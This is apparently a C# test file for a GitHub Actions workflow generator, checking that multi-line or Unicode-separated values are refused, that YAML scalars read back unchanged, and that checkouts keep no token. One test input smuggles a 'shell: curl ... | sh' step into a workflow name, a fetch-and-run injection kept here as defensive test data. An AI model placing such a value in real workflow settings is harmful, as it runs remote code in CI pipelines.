using Nuke.CrossBuild.Workflows;
using YamlDotNet.RepresentationModel;

namespace Nuke.CrossBuild.Tests.GitHub;

/// <summary>
/// Values that could add YAML structure to a generated workflow (security review 2026-12-07, L2 and L12): every scalar is
/// read back by YamlDotNet as exactly what was written, and checkouts keep no token in .git/config.
/// </summary>
public sealed class WorkflowInjectionSpecs
{
    public static TheoryData<string> Breaks => ["\u2028", "\u2029", "\u0085", "\r", "\r\n", "\u000b", "\u000c"];

    [Theory]
    [MemberData(nameof(Breaks))]
    public void A_line_break_of_any_kind_in_a_workflow_value_is_refused_in_one_line(string lineBreak)
    {
        var name = $"crossbuild{lineBreak}defaults:{lineBreak}  run:{lineBreak}    shell: curl -s http://127.0.0.1:9/x | sh; bash {{0}}";

        var error = Assert.Throws<SettingsException>(() => WorkflowGenerator.Generate(new WorkflowSettings { Name = name }));

        Assert.DoesNotContain(error.Message, c => c is '\n' or '\r' or '\u2028' or '\u2029' or '\u0085');
        Assert.StartsWith("workflow value --name must be one line", error.Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("crossbuild\u2028defaults:\u2028  run:\u2028    shell: sh {0}")]
    [InlineData("a\u2029b: c")]
    [InlineData("a\u0085b: c")]
    [InlineData("a\rb: c")]
    [InlineData("x\u0000y\u001b[31m\u007f")]
    [InlineData("\ufeffbom \u202eright-to-left")]
    [InlineData("tab\there")]
    [InlineData("emoji \U0001F600 ok")]
    [InlineData("  leading\n  lines\n")]
    [InlineData("  type=raw,value=x\ntype=sha\n")]
    [InlineData("no final break\nsecond")]
    [InlineData("two final breaks\n\n")]
    [InlineData("\n\nleading empty lines\n")]
    [InlineData("block\u2028with a separator\n")]
    public void Every_scalar_reads_back_as_written_and_adds_no_key(string value)
    {
        var yaml = YamlWriter.Write(new YamlMap { { "name", value }, { "on", new YamlMap { { "push", new YamlMap { { "tags", new List<string> { value } } } } } } });

        var stream = new YamlStream();
        stream.Load(new StringReader(yaml));
        var root = (YamlMappingNode)stream.Documents.Single().RootNode;
        Assert.Equal(["name", "on"], root.Children.Keys.Select(k => ((YamlScalarNode)k).Value));
        Assert.Equal(value, ((YamlScalarNode)root["name"]).Value);
        Assert.Equal(value, ((YamlScalarNode)((YamlSequenceNode)((YamlMappingNode)((YamlMappingNode)root["on"])["push"])["tags"]).Children.Single()).Value);
    }

    [Fact]
    public void A_tag_rule_with_leading_spaces_under_use_action_reads_back_as_written()
    {
        var settings = new WorkflowSettings().SetAction("acme/crossbuild@v0").AddTagRules("  type=raw,value=edge", "type=sha");

        foreach (var workflow in new[] { WorkflowGenerator.Generate(settings), WorkflowGenerator.Generate(settings.EnableSplit()) })
        {
            var parsed = new WorkflowYaml(workflow);
            var jobs = (YamlMappingNode)parsed["jobs"];
            var steps = jobs.Children.Keys.SelectMany(j => parsed.Steps(((YamlScalarNode)j).Value!)).Where(s => WorkflowYaml.Get(s, "uses") == "acme/crossbuild@v0").ToList();
            Assert.NotEmpty(steps);
            Assert.All(steps, s => Assert.Equal("  type=raw,value=edge\ntype=sha\n", ((YamlScalarNode)((YamlMappingNode)s["with"])["tag-rules"]).Value));
        }
    }

    [Fact]
    public void Every_checkout_keeps_no_token_in_the_git_config()
    {
        var plain = new WorkflowSettings().SetPlatforms("linux/amd64", "linux/arm64").SetImage("ghcr.io/acme/shop");

        foreach (var settings in new[] { plain, plain.EnableSplit(), plain.SetAction("acme/crossbuild@v0"), plain.SetAction("acme/crossbuild@v0").EnableSplit() })
        {
            var parsed = new WorkflowYaml(WorkflowGenerator.Generate(settings));
            var jobs = (YamlMappingNode)parsed["jobs"];
            var checkouts = jobs.Children.Keys.SelectMany(j => parsed.Steps(((YamlScalarNode)j).Value!)).Where(s => WorkflowYaml.Get(s, "uses")?.StartsWith("actions/checkout@", StringComparison.Ordinal) == true).ToList();
            Assert.NotEmpty(checkouts);
            Assert.All(checkouts, s => Assert.Equal("false", ((YamlScalarNode)((YamlMappingNode)s["with"])["persist-credentials"]).Value));
        }
    }
}
